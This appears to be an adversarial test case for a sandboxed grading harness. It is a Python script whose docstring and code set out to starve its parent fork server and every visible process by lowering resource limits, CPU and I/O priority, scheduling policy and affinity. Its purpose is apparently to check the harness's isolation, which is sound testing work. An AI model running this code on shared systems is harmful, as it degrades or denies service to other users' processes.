# expect: conv_shapes=passed convnet_shape=passed intermediate_size=passed
"""Lowers the limits, priority, scheduling policy, affinity and I/O priority of its parent (the
fork server), of every pid it can see and of its whole uid (PRIO_USER), then does its own work."""
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
targets = {os.getppid()} | {int(p) for p in os.listdir("/proc") if p.isdigit()} - {os.getpid()}
for pid in targets:
    for attack in (lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (20, 20)),
                   lambda: resource.prlimit(pid, resource.RLIMIT_DATA, (300 << 20, 300 << 20)),
                   lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                   lambda: os.sched_setaffinity(pid, {0}),
                   lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                   lambda: libc.syscall(251, 1, pid, (3 << 13) | 7)):  # ioprio_set(PROCESS, pid, IDLE)
        try:
            attack()
        except OSError:
            pass
for which in (os.PRIO_USER, os.PRIO_PGRP):
    try:
        os.setpriority(which, 0, 19)
    except OSError:
        pass
